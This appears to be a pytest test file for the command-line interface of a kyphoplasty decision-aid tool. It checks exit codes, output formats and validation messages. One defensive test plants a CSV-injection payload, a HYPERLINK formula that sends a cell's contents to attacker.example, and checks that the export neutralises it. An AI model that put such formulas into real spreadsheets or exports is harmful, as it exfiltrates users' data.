"""The command line: exit codes, formats, and messages instead of tracebacks."""

from __future__ import annotations

import csv
import io
import subprocess
import sys
from pathlib import Path

import pytest

import kypho_aid
from kypho_aid.cli import main

from .conftest import ROOT

LABELS = kypho_aid.load_dataset("options").set_index("option_id")["label"].astype(str)


def run(*args: str, cwd: Path = ROOT) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "kypho_aid", *args], cwd=cwd, capture_output=True, text=True
    )


def test_validate_exits_zero_on_the_knowledge_base() -> None:
    result = run("validate", "data")
    assert result.returncode == 0, result.stdout
    assert result.stdout.startswith("data: ") and "no problems" in result.stdout


def test_validate_exits_one_and_prints_located_problems(data_copy: Path) -> None:
    (data_copy / "options.csv").write_text("", encoding="utf-8")
    result = run("validate", "data", cwd=data_copy.parent)
    assert result.returncode == 1
    assert (
        result.stdout.splitlines()[0]
        == "data/options.csv:1:option_id: file is empty; it needs at least a header row"
    )


def test_validate_a_folder_that_does_not_exist(tmp_path: Path) -> None:
    result = run("validate", str(tmp_path / "nowhere"))
    assert result.returncode == 1 and "not a folder" in result.stdout


@pytest.mark.parametrize("fmt", ["md", "csv", "html"])
def test_compare_prints_each_format(fmt: str) -> None:
    result = run("compare", "--format", fmt)
    assert result.returncode == 0, result.stderr
    first = result.stdout.splitlines()[0]
    expected = {
        "md": f"| Attribute | {LABELS.iloc[0]}",
        "csv": "attribute_id,attribute,",
        "html": "<!DOCTYPE html>",
    }[fmt]
    assert first.startswith(expected)


def test_compare_with_options_and_topics() -> None:
    result = run(
        "compare", "--format", "csv", "--options", "non_surgical", "--topics", "afterwards"
    )
    rows = list(csv.reader(io.StringIO(result.stdout)))
    assert rows[0] == ["attribute_id", "attribute", LABELS["non_surgical"], "sources"]
    assert len(rows) > 2


def test_unknown_option_is_a_message_not_a_traceback() -> None:
    result = run("compare", "--options", "laser")
    assert result.returncode == 2
    assert result.stderr.startswith("kypho-aid: error: unknown option(s) ['laser']")
    assert "Traceback" not in result.stderr


def test_bad_usage_exits_two(capsys: pytest.CaptureFixture[str]) -> None:
    with pytest.raises(SystemExit) as caught:
        main(["compare", "--format", "pdf"])
    assert caught.value.code == 2
    assert "invalid choice: 'pdf'" in capsys.readouterr().err


def test_datasets_lists_row_counts(capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["datasets"]) == 0
    out = capsys.readouterr().out
    assert [line.split()[0] for line in out.splitlines()[:-1]] == kypho_aid.list_datasets()
    assert "content version" in out


def _set_cell(path: Path, key: str, column: str, value: str) -> None:
    with path.open(encoding="utf-8", newline="") as handle:
        rows = list(csv.reader(handle))
    row = next(r for r in rows if r[0] == key)
    row[rows[0].index(column)] = value
    with path.open("w", encoding="utf-8", newline="") as handle:
        csv.writer(handle, lineterminator="\n").writerows(rows)


def test_compare_csv_neutralises_formula_cells(
    data_copy: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """OWASP's CSV-injection rule: a cell a spreadsheet would run as a formula starts with '."""
    formula = '=HYPERLINK("http://attacker.example/?"&A1,"Click")'
    _set_cell(data_copy / "comparison.csv", "C001", "value", formula)
    _set_cell(data_copy / "options.csv", "kyphoplasty", "label", "@SUM(1+1)")
    monkeypatch.setenv("KYPHO_AID_DATA", str(data_copy))
    assert kypho_aid.validate(data_copy) == []
    result = run("compare", "--format", "csv", "--topics", "what_it_is")
    assert result.returncode == 0, result.stderr
    rows = list(csv.reader(io.StringIO(result.stdout)))
    assert rows[0][2] == "'@SUM(1+1)"
    assert rows[1][2].startswith(f"'{formula}")
    starts = ("=", "+", "-", "@", "\t", "\r")
    assert not [cell for row in rows for cell in row if cell.startswith(starts)]
